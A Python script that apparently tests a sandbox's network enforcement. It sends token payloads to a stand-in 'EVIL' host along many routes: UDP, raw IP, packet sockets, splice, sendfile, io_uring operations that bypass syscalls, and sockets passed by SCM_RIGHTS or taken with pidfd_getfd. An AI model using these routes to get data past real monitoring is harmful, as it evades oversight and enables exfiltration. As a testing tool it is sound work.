"""Sockets of somebody else's, used inside.

pass.py give PATH: makes sockets outside, says `ready` and its process id, and hands them to whoever connects to the unix socket.
pass.py take PATH TOKEN MAC: takes them from there. pass.py steal PID TOKEN MAC: takes them out of that process (pidfd_getfd).
pass.py bring - TOKEN MAC: makes them, says `ready`, and goes on after a line of input, wherever it is by then.
Each sends by all that it got: NAME=ok|ERRNO a line; payloads are TOKEN-NAME; Then it sends by a socket of its own.
"""
import array
import ctypes
import errno
import mmap
import os
import socket
import struct
import sys
import tempfile

KINDS = ["udp4", "udp6", "connected4", "connected6", "raw4", "packet", "written4", "sendfile4", "spliced4", "stream4", "tcp4",
         "received", "accepted"]
# By io_uring, whose operations are no system calls: in the caller's turn, by a worker, by the ring's own thread, of a registered file.
SENT_BY_RING = ["ring_sent4", "ring_message4", "ring_written4", "ring_spliced4", "ring_by_worker4", "ring_without_copy4",
                "ring_by_thread4", "ring_registered4"]
# Received: by splice(2) and by getsockopt(TCP_ZEROCOPY_RECEIVE), which is no recv(2).
KINDS += SENT_BY_RING + ["ring_tcp4", "ring_received", "splice_received", "option_received"]
# A SYN carries nothing: this is where it goes.
SYN_PORT, RING_SYN_PORT = 7107, 7108
EVIL, EVIL6 = "198.51.100.20", "2001:db8::20"
FIRST = 100
OTHERS = []
libc = ctypes.CDLL(None, use_errno=True)


def filled():
    """With something to receive, for two attempts."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.setblocking(False)
    for _ in range(2):
        sock.sendto(b"x", sock.getsockname())
    return sock


def stream():
    with socket.create_server(("127.0.0.1", 0)) as server:
        sock = socket.create_connection(server.getsockname(), 5)
        other, _ = server.accept()
    other.send(b"xx")
    OTHERS.append(other)
    return sock


class Ring:
    """io_uring(7), one operation at a time."""

    def __init__(self, by_thread=False, registered=None):
        # struct io_uring_params: flags (IORING_SETUP_SQPOLL) and the thread's patience, ms.
        params = ctypes.create_string_buffer(struct.pack("=IIIII", 0, 0, 2 * by_thread, 0, 1), 120)
        self.fd = checked(libc.syscall(425, 8, params))
        entries, completions = struct.unpack_from("=II", params)
        self.tail, self.array = struct.unpack_from("=4xI16xI", params, 40)
        self.head, self.done = struct.unpack_from("=I16xI", params, 80)
        size = max(self.array + 4 * entries, self.done + 16 * completions)
        self.rings, self.entries = mmap.mmap(self.fd, size), mmap.mmap(self.fd, 64 * entries, offset=0x10000000)
        if registered is not None:
            checked(libc.syscall(427, self.fd, 2, ctypes.byref(ctypes.c_int(registered)), 1))

    def operate(self, code, fd, address, length, offset=0, flags=0, which=0, other=0):
        at, = struct.unpack_from("=I", self.rings, self.tail)
        struct.pack_into("=BBHiQQII8x4xi16x", self.entries, at % 8 * 64, code, flags, 0, fd, offset, address, length, which, other)
        struct.pack_into("=I", self.rings, self.array + at % 8 * 4, at % 8)
        struct.pack_into("=I", self.rings, self.tail, at + 1)
        # IORING_ENTER_GETEVENTS, IORING_ENTER_SQ_WAKEUP.
        checked(libc.syscall(426, self.fd, 1, 1, 3, None, 0))
        seen, = struct.unpack_from("=I", self.rings, self.head)
        result, = struct.unpack_from("=8xi", self.rings, self.done + seen % 16 * 16)
        struct.pack_into("=I", self.rings, self.head, seen + 1)
        if result < 0:
            raise OSError(-result, "")
        return result


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def by_ring(name, descriptor, payload, rings):
    ring = rings.get(name) or Ring(name == "ring_by_thread4", descriptor if name == "ring_registered4" else None)
    held = ctypes.create_string_buffer(payload, len(payload))
    at = ctypes.addressof(held)
    if name == "ring_message4":
        to = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", 443) + socket.inet_aton(EVIL), 16)
        part = ctypes.create_string_buffer(struct.pack("=QQ", at, len(payload)), 16)
        message = ctypes.create_string_buffer(struct.pack("=QQQQ", ctypes.addressof(to), 16, ctypes.addressof(part), 1), 56)
        ring.operate(9, descriptor, ctypes.addressof(message), 1)
    elif name == "ring_written4":
        ring.operate(23, descriptor, at, len(payload))
    elif name == "ring_spliced4":
        reader, writer = os.pipe()
        os.write(writer, payload)
        # From the pipe, at no offset on either side.
        ring.operate(30, descriptor, 2 ** 64 - 1, len(payload), 2 ** 64 - 1, other=reader)
    elif name == "ring_without_copy4":
        ring.operate(47, descriptor, at, len(payload))
    elif name == "ring_tcp4":
        to = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", RING_SYN_PORT) + socket.inet_aton(EVIL), 16)
        try:
            ring.operate(16, descriptor, ctypes.addressof(to), 0, 16)
        except (ConnectionRefusedError, TimeoutError):
            pass
    elif name == "ring_received":
        ring.operate(27, descriptor, at, 1)
    elif name == "ring_registered4":
        ring.operate(26, 0, at, len(payload), flags=1)
    else:
        ring.operate(26, descriptor, at, len(payload), flags=16 * (name == "ring_by_worker4"))


def by_option(descriptor):
    """struct tcp_zerocopy_receive, with a buffer for what fills no page."""
    held = ctypes.create_string_buffer(2)
    what = ctypes.create_string_buffer(struct.pack("=QIIIiQiI", 0, 0, 0, 0, 0, ctypes.addressof(held), 2, 0), 64)
    checked(libc.getsockopt(descriptor, socket.IPPROTO_TCP, 35, what, ctypes.byref(ctypes.c_int(64))))
    if held.raw != b"xx":
        raise OSError(errno.ENODATA, "")


def make():
    socks = [
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), socket.socket(socket.AF_PACKET, socket.SOCK_RAW),
    ]
    socks += [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(3)]
    socks += [socket.create_connection((EVIL, 8080), 5), socket.socket(socket.AF_INET, socket.SOCK_STREAM)]
    socks[9].setblocking(False)
    socks[10].setblocking(False)
    # Loopback: what comes in by them was never outside.
    socks += [filled(), socket.create_server(("127.0.0.1", 0))]
    for _ in SENT_BY_RING:
        socks.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        socks[-1].connect((EVIL, 443))
    socks += [socket.socket(socket.AF_INET, socket.SOCK_STREAM), filled(), stream(), stream()]
    # Nobody waits for a handshake that never comes (TCP_USER_TIMEOUT, ms).
    socks[-4].setsockopt(socket.IPPROTO_TCP, 18, 300)
    for sock in socks[6:9]:
        sock.connect((EVIL, 443))
    socks[2].connect((EVIL, 443))
    socks[3].connect((EVIL6, 443))
    socks[5].bind(("eth0", 0))
    for at, sock in enumerate(socks):
        os.dup2(sock.fileno(), FIRST + at)
    return socks


def packet(payload):
    body = struct.pack("!HHHH", 5555, 443, 8 + len(payload), 0) + payload
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0x1234, 0, 64, 17, 0)
    head += socket.inet_aton("198.51.100.30") + socket.inet_aton(EVIL)
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xFFFF) + (total >> 16)
    return head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + body


def given(descriptor, family):
    """With all that it would be asked for by getsockopt(2), which may be refused."""
    return socket.socket(family, socket.SOCK_STREAM, 0, descriptor)


def port_of(descriptor):
    return given(os.dup(descriptor), socket.AF_INET).getsockname()[1]


def use(descriptors, token, mac, rings={}):
    link = bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x30\x08\0"
    for name, descriptor in zip(KINDS, descriptors):
        payload = f"{token}-{name};".encode()
        sock = given(descriptor, {"packet": socket.AF_PACKET}.get(name, socket.AF_INET6 if name.endswith("6") else socket.AF_INET))
        try:
            if name.startswith("udp"):
                sock.sendto(payload, (EVIL6 if name.endswith("6") else EVIL, 443))
            elif name.startswith("connected"):
                sock.send(payload)
            elif name == "written4":
                os.write(descriptor, payload)
            elif name == "sendfile4":
                with tempfile.TemporaryFile() as file:
                    file.write(payload)
                    file.flush()
                    os.sendfile(descriptor, file.fileno(), 0, len(payload))
            elif name == "spliced4":
                reader, writer = os.pipe()
                os.write(writer, payload)
                os.splice(reader, descriptor, len(payload))
            elif name == "stream4":
                sock.send(payload)
            elif name == "tcp4":
                # What became of an earlier one is told first.
                code = next(code for code in (sock.connect_ex((EVIL, SYN_PORT)) for _ in range(3)) if code != errno.ECONNREFUSED)
                if code not in (0, errno.EINPROGRESS, errno.EALREADY):
                    raise OSError(code, "")
            elif name.startswith("ring_"):
                by_ring(name, descriptor, payload, rings)
            elif name == "received":
                sock.recv(1)
            elif name == "splice_received":
                os.splice(descriptor, os.pipe()[1], 1, flags=2)
            elif name == "option_received":
                by_option(descriptor)
            elif name == "accepted":
                # Before anything is called on the foreign one, which may be refused.
                own = socket.create_connection(("127.0.0.1", port_of(descriptor)), 5)
                sock.accept()[0].send(b"x")
                own.recv(1)
            elif name == "raw4":
                sock.sendto(packet(payload), (EVIL, 0))
            else:
                sock.send(link + packet(payload))
            print(f"{name}=ok", flush=True)
        except OSError as error:
            print(f"{name}={errno.errorcode.get(error.errno, error.errno)}", flush=True)
    own = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    own.sendto(f"{token}-plain;".encode(), ("198.51.100.10", 443))


if sys.argv[1] == "give":
    socks = make()
    door = socket.socket(socket.AF_UNIX)
    door.bind(sys.argv[2])
    door.listen()
    os.chmod(sys.argv[2], 0o777)
    print("ready", os.getpid(), flush=True)
    while True:
        guest, _ = door.accept()
        numbers = array.array("i", [sock.fileno() for sock in socks])
        guest.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, numbers)])
        guest.close()
elif sys.argv[1] == "take":
    door = socket.socket(socket.AF_UNIX)
    door.connect(sys.argv[2])
    numbers = array.array("i")
    _, control, _, _ = door.recvmsg(1, socket.CMSG_SPACE(len(KINDS) * 4))
    if control:
        numbers.frombytes(control[0][2])
    use(numbers, *sys.argv[3:])
elif sys.argv[1] == "bring":
    kept = make()
    # What a ring has of its own, it has from before as well.
    rings = {"ring_by_thread4": Ring(by_thread=True), "ring_registered4": Ring(registered=FIRST + KINDS.index("ring_registered4"))}
    print("ready", os.getpid(), flush=True)
    sys.stdin.readline()
    use([FIRST + at for at in range(len(KINDS))], *sys.argv[3:], rings)
else:
    pidfd = libc.syscall(434, int(sys.argv[2]), 0)
    taken = [libc.syscall(438, pidfd, FIRST + at, 0) for at in range(len(KINDS))]
    if min(taken) < 0:
        print("taken", os.strerror(ctypes.get_errno()), flush=True)
    use([descriptor for descriptor in taken if descriptor >= 0], *sys.argv[3:])
